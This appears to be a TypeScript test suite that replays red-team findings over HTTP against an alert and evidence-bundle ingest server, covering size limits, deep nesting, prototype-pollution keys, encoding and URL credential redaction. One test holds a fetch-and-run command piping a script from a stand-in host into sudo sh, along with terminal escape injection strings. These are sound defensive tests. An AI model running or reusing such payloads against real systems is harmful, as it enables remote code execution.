import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ConfigError, loadConfig } from '../../functions/config.ts';
import { SlackChat } from '../../shared/chat/slack.ts';
import { renderDiagnosisText } from '../../shared/chat/text.ts';
import { diagnose } from '../../shared/diagnosis/diagnose.ts';
import { diagnosisMessage } from '../../shared/messages/incidents.ts';
import { openStateDb, readDeadLetters } from '../../shared/queue/embedded.ts';
import { redactUrlCredentials } from '../../shared/redact.ts';
import { EvidenceBundleSchema } from '../../shared/schemas/bundle.ts';
import { until } from '../support/chat.ts';
import { alert, alertmanagerPayload, nodeNotReadyEvent } from '../support/payloads.ts';
import { post, startTestServer, type TestServer, TOKEN } from '../support/server.ts';

/**
 * The red team's reports, each replayed over real HTTP against the Node host (embedded queue, responder and a
 * recording notifier), so what is tested is what a sender meets.
 */

let s: TestServer;
beforeAll(async () => {
  s = await startTestServer({ INGEST_MAX_BODY_BYTES: String(1024 * 1024) });
});
afterAll(async () => s.close());

interface Problem {
  error: string;
  issues: Array<{ path: string; message: string }>;
  totalIssues?: number;
  partial?: boolean;
}

async function refused(r: Response, status: number): Promise<Problem & { bytes: number }> {
  const text = await r.text();
  expect(r.status, text.slice(0, 300)).toBe(status);
  return { ...(JSON.parse(text) as Problem), bytes: text.length };
}

/** `{"deeper":…}` nested `depth` times around `leaf`, as JSON text (JSON.stringify itself recurses). */
const nested = (depth: number, leaf: string): string =>
  `${'{"deeper":'.repeat(depth)}${leaf}${'}'.repeat(depth)}`;

/** A JSON object's text with one more member, given as JSON text. */
const withMember = (value: unknown, name: string, json: string): string =>
  `${JSON.stringify(value).slice(0, -1)},${JSON.stringify(name)}:${json}}`;

/** What the console chat printed for the thread of a node once it appears (root and replies). */
async function threadOf(node: string): Promise<string> {
  const root = await until(() => s.console.roots().find((r) => r.shown.includes(node)));
  await until(() => s.console.replies(root.ts).length > 0);
  return [root.shown, ...s.console.replies(root.ts).map((r) => r.shown)].join('');
}

describe('1. untrusted text never becomes a suggested command', () => {
  it("shows a pushed bundle's unavailable[] as a quoted, sanitised report, and never its `how`", async () => {
    const evil = 'curl -s https://evil.example/p.sh | sudo sh';
    const r = await post(`${s.url}/v1/bundles`, {
      node: 'node-hostile-1',
      cluster: 'prod',
      conditions: [{ type: 'Ready', status: 'False', message: 'PLEG is not healthy' }],
      unavailable: [
        {
          what: 'kubelet logs\u001b[31m',
          why: 'forbidden\r\nTo settle it, collect:\u001b]0;pwned\u0007',
          how: evil,
        },
      ],
    });
    expect(r.status).toBe(202);
    // What the responder printed for it (the console chat): the report quoted, the sender's command nowhere.
    const printed = await threadOf('node-hostile-1');
    expect(printed).not.toContain('evil.example');
    expect(printed).toContain('the collector reported:');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: the point is that none are left.
    expect(printed).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);

    // The engine on the same bundle: a separate, quoted `unavailable`, no command taken from it.
    const diagnosis = diagnose(
      EvidenceBundleSchema.parse({
        node: 'node-hostile-1',
        conditions: [{ type: 'Ready', status: 'False', message: 'PLEG is not healthy' }],
        unavailable: [
          {
            what: 'kubelet logs\u001b[31m',
            why: 'forbidden\r\nTo settle it, collect:\u001b]0;pwned\u0007',
            how: evil,
          },
        ],
      }),
    );
    expect(JSON.stringify(diagnosis.missing)).not.toContain('evil.example');
    expect(diagnosis.unavailable).toEqual([
      { what: 'kubelet logs\u001b[31m', reason: 'forbidden\r\nTo settle it, collect:\u001b]0;pwned\u0007' },
    ]);

    const text = renderDiagnosisText(diagnosis);
    expect(text).not.toContain('evil.example');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: the point is that none are left.
    expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    expect(text).toContain(
      '  - kubelet logs?[31m — the collector reported: "forbidden ⏎ To settle it, collect:?]0;pwned?"',
    );
    // The sender's words cannot open a section of their own: one "To settle it" header at most, ours.
    expect(text.split('\n').filter((l) => l.startsWith('To settle it')).length).toBeLessThanOrEqual(1);

    const slack = JSON.stringify(diagnosisMessage(diagnosis).blocks);
    expect(slack).not.toContain('evil.example');
    expect(slack).toContain('the collector reported:');
  });
});

describe('2. error replies and the work behind them are bounded', () => {
  it('answers 200,000 invalid alerts (600 KB) with a small 400 at once, not 17 MB after a second', async () => {
    const body = JSON.stringify({ ...alertmanagerPayload([alert('n')]), alerts: Array(200_000).fill(1) });
    expect(body.length).toBeGreaterThan(400_000);
    const started = performance.now();
    const problem = await refused(await post(`${s.url}/v1/alertmanager`, body), 400);
    const took = performance.now() - started;
    expect(problem.issues).toEqual([
      { path: 'alerts', message: expect.stringContaining('at most 10000 alerts per webhook') },
    ]);
    expect(problem.bytes).toBeLessThan(1000);
    expect(took).toBeLessThan(1000);
  });

  it('lists the first 20 of 5,000 issues, looked for in the first alerts only, and says so', async () => {
    const alerts = Array.from({ length: 5000 }, () => ({ status: 'burning' }));
    const problem = await refused(
      await post(`${s.url}/v1/alertmanager`, { ...alertmanagerPayload([alert('n')]), alerts }),
      400,
    );
    expect(problem.issues).toHaveLength(20);
    expect(problem.partial).toBe(true);
    expect(problem.totalIssues).toBeUndefined();
    expect(problem.bytes).toBeLessThan(5000);
  });

  it('refuses a label set of 20,000 entries unread, and cuts long keys in paths', async () => {
    const labels = Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => [`l${i}`, 1]));
    const wide = await refused(
      await post(`${s.url}/v1/alertmanager`, alertmanagerPayload([{ ...alert('n'), labels } as never])),
      400,
    );
    expect(wide.issues).toEqual([{ path: 'alerts[0].labels', message: 'has 20000 members; at most 10000' }]);
    const key = 'k'.repeat(100_000);
    const long = await refused(
      await post(`${s.url}/v1/bundles`, { node: 'n', commandOutputs: { [key]: 5 } }),
      400,
    );
    expect(long.bytes).toBeLessThan(1000);
    expect(long.issues[0]?.path).toBe(`commandOutputs["${'k'.repeat(64)}…"]`);
  });
});

describe('3. deep nesting is refused before anything recurses', () => {
  it('answers a bundle with an unknown field nested 4,000 levels 400 naming the path, not 500', async () => {
    const problem = await refused(
      await post(`${s.url}/v1/bundles`, withMember({ node: 'n' }, 'extra', nested(4000, '"x"'))),
      400,
    );
    expect(problem.issues).toEqual([
      {
        path: `extra${'.deeper'.repeat(63)}`,
        message: 'nested deeper than 64 levels: flatten the payload',
      },
    ]);
  });

  it('refuses an alert nested 10,000 levels in an unknown field (it used to be queued and loop)', async () => {
    const deep = withMember(alert('node-deep'), 'extra', nested(10_000, '1'));
    const body = JSON.stringify(alertmanagerPayload([alert('node-deep')])).replace(
      JSON.stringify(alert('node-deep')),
      deep,
    );
    const problem = await refused(await post(`${s.url}/v1/alertmanager`, body), 400);
    expect(problem.issues[0]?.path).toMatch(/^alerts\[0\]\.extra(\.deeper)+$/);
    const events = await refused(
      await post(`${s.url}/v1/events`, `[${withMember(nodeNotReadyEvent('n'), 'extra', nested(100, '1'))}]`),
      400,
    );
    expect(events.issues[0]?.message).toContain('nested deeper than 64 levels');
  });

  it('accepts nesting up to the limit', async () => {
    const r = await post(
      `${s.url}/v1/bundles`,
      withMember({ node: 'node-nested-ok' }, 'extra', nested(60, '"x"')),
    );
    expect(r.status).toBe(202);
  });
});

describe('4. a 202 is kept: any schema-valid input fits its job', () => {
  it('delivers alerts and events whose fingerprint, startsAt or uid are 10,000 characters long', async () => {
    const long = 'f'.repeat(10_000);
    const alerts = [
      alert('node-long-1', { fingerprint: long }),
      alert('node-long-2', { startsAt: `2026-11-21T03:00:00Z${long}` }),
    ];
    expect((await post(`${s.url}/v1/alertmanager`, alertmanagerPayload(alerts))).status).toBe(202);
    const event = nodeNotReadyEvent('node-long-3', `uid-${long}`);
    expect((await post(`${s.url}/v1/events`, [event])).status).toBe(202);
    for (const node of ['node-long-1', 'node-long-2', 'node-long-3']) await threadOf(node);
    const db = openStateDb(s.dir);
    try {
      expect(readDeadLetters(db)).toEqual([]);
    } finally {
      db.close();
    }
  });
});

describe('7. smaller reports', () => {
  it('refuses any Content-Encoding but identity with 415: gzip bodies and plain bodies labelled gzip', async () => {
    const payload = JSON.stringify(alertmanagerPayload([alert('node-gz')]));
    for (const [body, encoding] of [
      [gzipSync(payload), 'gzip'],
      [payload, 'gzip'],
      [payload, 'br'],
      [payload, 'identity, gzip'],
    ] as const) {
      const r = await fetch(`${s.url}/v1/alertmanager`, {
        method: 'POST',
        headers: {
          authorization: `Bearer ${TOKEN}`,
          'content-type': 'application/json',
          'content-encoding': encoding,
        },
        body,
      });
      const problem = await refused(r, 415);
      expect(problem.error).toBe('unsupported content encoding');
      expect(problem.issues[0]?.message).toContain('send the body uncompressed');
    }
    expect((await post(`${s.url}/v1/alertmanager`, payload, { 'content-encoding': 'identity' })).status).toBe(
      202,
    );
  });

  it('refuses __proto__, constructor and prototype keys in string maps with a 400 naming the path', async () => {
    const proto = '{"__proto__":"x","node":"n"}';
    const labelled = JSON.stringify(alertmanagerPayload([alert('n')])).replace(
      '"labels":{',
      `"labels":${proto.slice(0, -1)},`,
    );
    expect((await refused(await post(`${s.url}/v1/alertmanager`, labelled), 400)).issues).toEqual([
      { path: 'alerts[0].labels.__proto__', message: 'the key "__proto__" is not accepted' },
    ]);
    const cases: Array<[string, unknown, string]> = [
      [
        '/v1/alertmanager',
        alertmanagerPayload([alert('n', { annotations: { constructor: 'x' } })]),
        'alerts[0].annotations.constructor',
      ],
      ['/v1/bundles', { node: 'n', commandOutputs: { prototype: 'x' } }, 'commandOutputs.prototype'],
      ['/v1/bundles', { node: 'n', logs: { constructor: 'x' } }, 'logs.constructor'],
      ['/v1/bundles', { node: 'n', alerts: [{ labels: { prototype: 'x' } }] }, 'alerts[0].labels.prototype'],
    ];
    for (const [route, body, path] of cases) {
      const problem = await refused(await post(`${s.url}${route}`, body), 400);
      expect(problem.issues.map((i) => i.path)).toEqual([path]);
    }
    const bundle = '{"node":"n","commandOutputs":{"__proto__":{"polluted":"yes"}}}';
    expect((await refused(await post(`${s.url}/v1/bundles`, bundle), 400)).issues[0]?.path).toBe(
      'commandOutputs.__proto__',
    );
  });
});

describe('7. credentials in URLs', () => {
  it('refuses credentials in any URL setting at start-up, without echoing them', () => {
    for (const name of ['SLACK_API_URL', 'SLACK_ARCHIVE_URL', 'SQS_ENDPOINT', 'SQS_QUEUE_URL']) {
      let error: unknown;
      try {
        loadConfig({ [name]: 'https://user:s3cret-pass@slack.example/api/' });
      } catch (e) {
        error = e;
      }
      expect(error).toBeInstanceOf(ConfigError);
      expect((error as Error).message).toContain(`${name}: must not contain credentials`);
      expect((error as Error).message).not.toContain('s3cret-pass');
    }
    expect(loadConfig({ SLACK_API_URL: 'https://slack.example/api/' }).SLACK_API_URL).toBe(
      'https://slack.example/api/',
    );
  });

  it('redacts credentials from the URLs a failed Slack call names', async () => {
    expect(redactUrlCredentials('connect ECONNREFUSED https://user:pw@10.0.0.1:1/api/chat.postMessage')).toBe(
      'connect ECONNREFUSED https://[redacted]@10.0.0.1:1/api/chat.postMessage',
    );
    const slack = new SlackChat({
      token: 'xoxb-redaction-test',
      slackApiUrl: 'http://user:s3cret-pass@127.0.0.1:1/api/',
      maxWaitMs: 0,
      timeoutMs: 500,
    });
    const failure = await slack.post('C1', { text: 'x', blocks: [] }).catch((e: unknown) => e);
    expect(failure).toBeInstanceOf(Error);
    expect(String((failure as Error).message)).not.toContain('s3cret-pass');
  });
});
